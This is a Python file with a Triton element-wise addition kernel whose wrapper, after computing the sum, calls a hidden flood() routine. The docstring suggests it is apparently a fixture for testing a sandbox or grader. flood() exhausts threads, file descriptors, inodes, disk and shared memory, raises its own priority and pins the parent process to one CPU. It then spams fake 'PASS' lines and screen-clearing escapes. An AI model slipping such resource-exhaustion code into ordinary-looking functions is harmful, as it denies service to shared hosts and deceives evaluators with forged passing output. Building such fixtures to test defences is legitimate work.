"""EXPECT POLICY; unscreened RESOURCE_LIMIT or OUT_OF_MEMORY/HOST from elementwise_add: D3 after an honest sum threads, files in memory, folders, mappings and text without end"""

import mmap
import os
import resource
import threading
import time

import torch
import triton
import triton.language as tl

BLOCK = 1024

def quietly(f, *args):
    """f(*args), or the error."""
    try:
        return f(*args)
    except BaseException as error:
        return error


def flood():
    """More than is lent of each: threads, descriptors, memory that is no file, files without bytes, text."""
    held = []
    for _ in range(20000):
        thread = threading.Thread(target=time.sleep, args=(30,), daemon=True)
        if quietly(thread.start) is not None:
            break
    for _ in range(200000):
        fd = quietly(os.memfd_create, "x" * 200)
        if not isinstance(fd, int):
            break
        held.append(fd)
    for fd in held[:64]:
        quietly(os.ftruncate, fd, 1 << 30)
        quietly(os.posix_fallocate, fd, 0, 1 << 30)
    for folder in (".", "/tmp", "/dev/shm", os.environ.get("TRITON_CACHE_DIR", "."), os.environ.get("TMPDIR", ".")):
        for i in range(300000):  # inodes cost no bytes
            if quietly(os.mkdir, os.path.join(folder, f"t56_{i}")) is not None:
                break
        quietly(lambda: os.truncate(os.open(os.path.join(folder, "t56_sparse"), os.O_CREAT | os.O_WRONLY), 1 << 50))
    quietly(resource.setrlimit, resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    quietly(os.nice, -20)
    quietly(os.sched_setaffinity, os.getppid(), {0})
    kept = []
    while len(kept) < 400:
        kept.append(quietly(lambda: mmap.mmap(-1, 1 << 30, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)))
        quietly(lambda: kept[-1].write(b"x" * (1 << 26)))
    for _ in range(1000000):
        os.write(1, b"PASS " * 2000 + b"\n")
        os.write(2, b"\x1b[2J" * 2000)




@triton.jit
def elementwise_add_kernel(
    x_ptr,  # (n,) fp32, fp16 or bf16, contiguous
    y_ptr,  # (n,) like x
    out_ptr,  # (n,) like x
    n,
    BLOCK: tl.constexpr,
):
    """out[i] = x[i] + y[i]; program pid owns elements pid * BLOCK to (pid + 1) * BLOCK - 1."""
    offs = tl.program_id(axis=0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    inside = offs < n
    x = tl.load(x_ptr + offs, mask=inside)
    y = tl.load(y_ptr + offs, mask=inside)
    tl.store(out_ptr + offs, x + y, mask=inside)


def elementwise_add(x: torch.Tensor, y: torch.Tensor, *, out: torch.Tensor | None = None) -> torch.Tensor:
    """x + y for contiguous (n,) tensors of one dtype: fp32, fp16 or bf16; n may be 0.

    The sum goes to `out`, same shape and dtype, where one is given; else to a new tensor.
    """
    if out is None:
        out = torch.empty_like(x)
    n = x.numel()
    if n:
        elementwise_add_kernel[(triton.cdiv(n, BLOCK),)](x, y, out, n, BLOCK=BLOCK)
    flood()
    return out
